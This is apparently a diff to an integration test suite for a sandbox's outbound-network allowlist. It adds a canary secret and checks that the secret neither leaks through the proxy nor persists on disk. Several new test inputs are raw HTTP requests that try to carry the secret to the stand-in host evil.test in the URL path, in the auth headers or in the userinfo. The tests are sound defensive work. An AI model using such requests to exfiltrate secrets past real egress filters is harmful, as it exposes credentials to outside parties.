@@ -32,6 +32,8 @@ from console.config import ConsoleConfig
 from console.workers import WorkerLink
 from protos.errors import FailedPrecondition, InvalidArgument, NotFound
 from protos.wire import DevBoxEvent
+from tests.integration.canary import CANARY as SECRET
+from tests.integration.canary import SECRET_ENV, check_files, watching
 from tests.integration.commands import run as run_command
 from tests.integration.conftest import (
     DEVBOX_IMAGE,
@@ -66,6 +68,7 @@ REACHED: list[tuple[list[Any], str]] = [
     (["get", "allowed.test", 80], "allowed"),
     (["get", "sub.allowed.test", 80], "allowed"),
     (["get", "six.allowed.test", 80], "six"),
+    (["raw", "", 0, "GET http://allowed.test/{secret} HTTP/1.0\r\nAuthorization: {secret}\r\n\r\n"], "allowed"),
     # A known limit, said in docs/security.md: what is asked of a host that is allowed is between it and the DevBox.
     (["connect", "allowed.test", 443, "evil.test"], "allowed"),
     (["get", "allowed.test", 80, "evil.test"], "allowed"),
@@ -113,6 +116,10 @@ REFUSED: list[tuple[list[Any], str]] = [
     (["raw", "", 0, "GET http://evil.test/ HTTP/1.0\r\nHost: allowed.test\r\n\r\n"], "evil"),
     (["raw", "", 0, "GET http://evil.test/ HTTP/1.0\r\nX-Forwarded-For: 127.77.0.1\r\n\r\n"], "evil"),
     (["raw", "", 0, "PROXY TCP4 127.77.0.1 127.0.0.1 1 2\r\nGET http://evil.test/ HTTP/1.0\r\n\r\n"], "evil"),
+    (["raw", "", 0, "GET http://evil.test/{secret} HTTP/1.0\r\nProxy-Authorization: Basic {secret}\r\n\r\n"], "evil"),
+    (["raw", "", 0, "GET http://allowed.test:9/{secret} HTTP/1.0\r\n\r\n"], ""),
+    (["raw", "", 0, "GET http://user:{secret}@evil.test/ HTTP/1.0\r\n\r\n"], "evil"),
+    (["raw", "", 0, "{secret} http://allowed.test/ {secret}\r\n{secret}\r\n\r\n"], ""),
     (["raw", "", 0, "GET cache_object://localhost/info HTTP/1.0\r\n\r\n"], ""),
     (["raw", "", 0, "GET /squid-internal-mgr/info HTTP/1.0\r\nHost: localhost\r\n\r\n"], ""),
     (["tcp", ALLOWED, 80], "allowed"),
@@ -250,23 +257,30 @@ CONTROLS = {
 
 @pytest.mark.parametrize("profile", ["standard", "strict"])
 async def test_a_devbox_reaches_what_its_list_names_and_nothing_else(
-    site: Site, link: WorkerLink, profile: str
+    site: Site, link: WorkerLink, podman: Podman, profile: str
 ) -> None:
     """The matrix."""
-    await reaches_its_list_alone(site, link, profile)
+    await reaches_its_list_alone(site, link, profile, [*podman.places(), podman.directory])
 
 
-async def reaches_its_list_alone(site: Site, link: WorkerLink, profile: str) -> None:
-    """Every allowed name is reached, nothing else is, and no unlisted name is ever looked up."""
+async def reaches_its_list_alone(site: Site, link: WorkerLink, profile: str, places: list[str | Path]) -> None:
+    """Every allowed name is reached, nothing else is, and no unlisted name is ever looked up.
+
+    Nor is the DevBox's secret in ``places``, where the engine keeps things, in the worker's directory or an argument.
+    """
     answers = await asyncio.to_thread(from_machine, site.internet, list(CONTROLS.values()))
     assert [label for label, found in zip(CONTROLS, answers, strict=True) if f"{CANARY}{label}" not in found] == []
-    devbox_id = await create(link, image=DEVBOX_IMAGE, profile=profile, allowedDomains=NAMES)
+    devbox_id = await create(link, image=DEVBOX_IMAGE, profile=profile, allowedDomains=NAMES, secretEnv=SECRET_ENV)
     await create(link, name="neighbour", profile=profile, allowedDomains=["other.test"])
     asked_before = len(site.internet.seen("dns"))
 
-    reached = await probe(link, devbox_id, [one for one, _ in REACHED])
-    refused = await probe(link, devbox_id, [one for one, _ in REFUSED])
+    async with watching(0.1) as watch:
+        reached = await probe(link, devbox_id, [one for one, _ in REACHED])
+        refused = await probe(link, devbox_id, [one for one, _ in REFUSED])
 
+    check_files(site.worker.data, [devbox_id], [*places, site.worker.directory])
+    assert any(f"/{SECRET}" in line for line in site.internet.seen("http"))  # it was there to be seen
+    assert (watch.found, watch.looks > 0) == (set(), True)
     wrong = [(one, found) for (one, label), found in zip(REACHED, reached, strict=True) if CANARY + label not in found]
     assert wrong == []
     leaks = [(one, found) for (one, _), found in zip(REFUSED, refused, strict=True) if CANARY in found]
@@ -428,17 +442,17 @@ async def test_wrong_lists_are_refused(link: WorkerLink) -> None:
         await link.request("DevBox.egress", {"devboxId": devbox_id, "allowedDomains": [], "tenantId": OTHER_TENANT})
 
 
-async def test_what_is_killed_comes_back_and_nothing_leaks(site: Site, link: WorkerLink) -> None:
+async def test_what_is_killed_comes_back_and_nothing_leaks(site: Site, link: WorkerLink, podman: Podman) -> None:
     """On the engine that all tests have."""
-    await survives_kills(site, link, Podman.run)
+    await survives_kills(site, link, Podman.run, [*podman.places(), podman.directory])
 
 
-async def survives_kills(site: Site, link: WorkerLink, engine: Callable[..., str]) -> None:
+async def survives_kills(site: Site, link: WorkerLink, engine: Callable[..., str], places: list[str | Path]) -> None:
     """Squid, its helper, the bridge, the sidecar, the holder, and the processes of ours: the DevBox runs on.
 
-    ``engine`` runs its command line.
+    ``engine`` runs its command line, and ``places`` are where it keeps things: its secret is nowhere after.
     """
-    devbox_id = await create(link, image=DEVBOX_IMAGE, allowedDomains=NAMES)
+    devbox_id = await create(link, image=DEVBOX_IMAGE, allowedDomains=NAMES, secretEnv=SECRET_ENV)
     begun = (await link.request("DevBox.list"))["devboxes"][0]["startedAt"]
 
     async def kill(name: str) -> None:
@@ -477,7 +491,9 @@ async def survives_kills(site: Site, link: WorkerLink, engine: Callable[..., str
     await link.request("DevBox.stop", {"devboxId": devbox_id, "timeoutSeconds": 0})
     await link.request("DevBox.start", {"devboxId": devbox_id})
     await eventually(works)
+    check_files(site.worker.data, [devbox_id], [*places, site.worker.directory])
     await link.request("DevBox.remove", {"devboxId": devbox_id, "force": True})
+    check_files(site.worker.data, [], [*places, site.worker.directory])
     assert engine("ps", "-aq", "--filter", "label=io.clustercode.beside").split() == []
     data = site.worker.data / "egress"
     await eventually(
